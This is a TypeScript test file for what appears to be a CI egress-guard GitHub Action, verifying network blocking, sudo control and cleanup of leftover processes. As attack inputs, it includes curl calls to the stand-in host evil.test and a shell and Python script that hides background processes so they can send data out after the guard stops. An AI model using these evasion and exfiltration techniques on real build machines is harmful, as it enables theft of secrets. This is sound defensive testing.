/** The bundled hooks, run with Node 24 as a runner runs them, on a machine that they guard. */

import assert from "node:assert/strict";
import { Job, stateOf, values } from "../support/job.ts";
import { machineSuite } from "../support/machine_suite.ts";

const test = machineSuite();
const WORKFLOW = `on: push
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: owner/egress@v1
      - run: curl https://site.test
      - run: |
          curl https://evil.test
`;

test("a job is guarded from before its first step to after its last", async (s) => {
  await using job = await Job.start(s);
  const before = await s.state();
  await job.commit("ci.yml", WORKFLOW);
  const inputs = { INPUT_POLICY: "site.test\n", "INPUT_UPLOAD-LOG": "auto" };

  const pre = await job.hook("pre.js", inputs);
  assert.equal(pre.code, 0, pre.output);
  assert.match(
    pre.output,
    /^egress guards this machine: enforce, sudo disabled, orders from owner\/egress/m,
  );
  assert.equal(values(pre.files.env)["SSL_CERT_FILE"], "/etc/ssl/certs/ca-certificates.crt");

  const main = await job.hook("main.js", inputs);
  assert.equal(main.code, 0, main.output);
  assert.match(main.output, /^egress guards this machine/);
  const { log = "" } = values(main.files.output);
  assert.match(log, /^\/var\/log\/egress\/[0-9a-f]{16}\.jsonl$/);

  const fetching = (host: string) =>
    `curl -sS -m 5 -o /dev/null -w '%{http_code}' https://${host}/`;
  assert.equal((await job.step("__run", fetching("site.test"))).output, "200");
  assert.notEqual((await job.step("__run_2", fetching("evil.test"))).code, 0);
  assert.notEqual((await job.step("__run_3", "sudo -n true")).code, 0);
  assert.notEqual((await job.step("__run_3", `echo >> ${log}`)).code, 0);

  const post = await job.hook("post.js", { ...inputs, ...stateOf(pre) });
  assert.equal(post.code, 0, post.output);
  assert.equal(await s.state(), before);
  assert.match(post.files.summary, /^## egress: something was blocked/);
  assert.match(post.output, /^::warning title=egress blocked,file=ci.yml,line=8::/m);
  const artifacts = await job.artifacts();
  assert.deepEqual(artifacts.map((path) => path.split("/").at(-1)), ["egress-connections.zip"]);
  await s.attackerGotNothing();
});

test("attack: what a step left in the background waits for the guard's end", async (s) => {
  await using job = await Job.start(s);
  const inputs = { INPUT_POLICY: "site.test\n" };
  const pre = await job.hook("pre.js", inputs);
  assert.equal(pre.code, 0, pre.output);
  // One keeps making new ones of itself, one hides whose it is from those who look at /proc's owner.
  const waiting = await job.step(
    "__run",
    `wait_for_it() {
       until [ -e /run/egress/stopped.json ]; do sleep 0.05; done
       while :; do curl -sk -m 2 https://evil.test/stolen; sleep 0.1; done
     }
     export -f wait_for_it
     setsid bash -c wait_for_it >/dev/null 2>&1 &
     setsid bash -c 'hop() { sleep 0.2; hop & }; hop' >/dev/null 2>&1 &
     (setsid sudo -n -b true; exec setsid python3 -c '
import ctypes, os, time
ctypes.CDLL(None).prctl(4, 0)
while not os.path.exists("/run/egress/stopped.json"): time.sleep(0.05)
os.execvp("curl", ["curl", "-sk", "-m", "9", "https://evil.test/stolen"])') >/dev/null 2>&1 &
     sleep 0.3; pgrep -c -f wait_for_it`,
  );
  assert.ok(Number(waiting.output) >= 1, waiting.output);
  const post = await job.hook("post.js", { ...inputs, ...stateOf(pre) });
  assert.equal(post.code, 0, post.output);
  assert.equal((await s.machine.sh("pgrep -u 1001 -x 'curl|bash|sleep'")).stdout, "");
  await s.attackerGotNothing();
  assert.match(
    post.output,
    /^egress: ended what the job left running: [3-9]\d* processes, 0 containers$/m,
  );
});

test("sudo is given and taken by the sub-actions alone", async (s) => {
  await using job = await Job.start(s);
  const inputs = { INPUT_POLICY: "site.test\n" };
  const pre = await job.hook("pre.js", inputs);
  assert.equal(pre.code, 0, pre.output);
  const other = await job.hook("enable-sudo.js", { GITHUB_ACTION_REPOSITORY: "evil/egress" });
  assert.equal(other.code, 1, other.output);
  assert.match(
    other.output,
    /^::error title=egress::enable-sudo failed: refused: the caller belongs to evil\/egress/m,
  );
  assert.notEqual((await job.step("__run", "sudo -n true")).code, 0);
  for (const [hook, code] of [["enable-sudo.js", 0], ["disable-sudo.js", 1]] as const) {
    assert.equal((await job.hook(hook)).code, 0);
    assert.equal((await job.step("__run", "sudo -n true 2>/dev/null")).code, code, hook);
  }
  // Neither may another action end the guard.
  const post = await job.hook("post.js", { ...inputs, GITHUB_ACTION_REPOSITORY: "evil/egress" });
  assert.equal(post.code, 1);
  assert.match(post.output, /^::error .*The machine stays closed/m);
  assert.equal((await job.hook("main.js", inputs)).code, 0);
  assert.equal((await job.hook("post.js", { ...inputs, ...stateOf(pre) })).code, 0);
});
